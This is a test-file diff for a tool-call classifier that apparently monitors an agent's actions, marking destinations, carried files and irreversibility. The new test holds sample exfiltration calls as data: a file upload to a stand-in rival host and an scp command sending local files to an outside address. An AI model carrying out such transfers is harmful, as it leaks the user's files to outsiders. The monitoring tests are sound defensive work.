@@ -77,6 +77,32 @@ describe('classifyCall: the built-in policy recognises common tool shapes', () =
     ]);
   });
 
+  it('reads a file written to a URL as a request to it, and the files a call sends by path as carried', () => {
+    const upload = classify('upload_file', {
+      path: 'specs/k7.md',
+      destination: 'https://rival.example.com/in',
+    });
+    expect(upload).toMatchObject({
+      kind: 'http-request',
+      destinations: ['https://rival.example.com/in'],
+      itemIds: ['specs/k7.md'],
+      reversibility: 'irreversible',
+    });
+    // A local destination stays a file write, and a cloud-storage path is not read as a web upload.
+    expect(classify('copy_file', { path: 'a.md', destination: '/tmp/a.md' }).kind).toBe('file-write');
+    expect(classify('copy_file', { path: 'a.md', destination: 's3://bucket/a.md' }).kind).toBe('file-write');
+    expect(classify('upload_file', { file_path: 'a.md', url: 'https://x.com' }).itemIds).toEqual(['a.md']);
+    // A read carries nothing it sends; a request with only a path of its own sends no file.
+    expect(classify('http_get', { url: 'https://x.com', path: '/a.md' }).itemIds).toEqual([]);
+    expect(
+      classify('send_email', { to: 'a@x.com', body: 'b', email_id: 'm1', attachments: ['/a.md'] }).itemIds,
+    ).toEqual(['m1', '/a.md']);
+    expect(
+      classify('bash', { command: `scp ./a.md "/srv/b c.md" '~/d.md' -F f=@/e.md u@x.com:/in/` }).itemIds,
+    ).toEqual(['./a.md', '/srv/b c.md', '~/d.md', '/e.md']);
+    expect(classify('bash', { command: 'cp /srv/a.md /tmp/b.md' }).itemIds).toEqual([]);
+  });
+
   it('reads free text (a custom tool input) as the payload, and the destinations written in it', () => {
     const text = 'To: kyle@summitbridge.com, cc ops@x.com\n\nCancel the wipe.';
     expect(classify('send_email', { input: text })).toMatchObject({
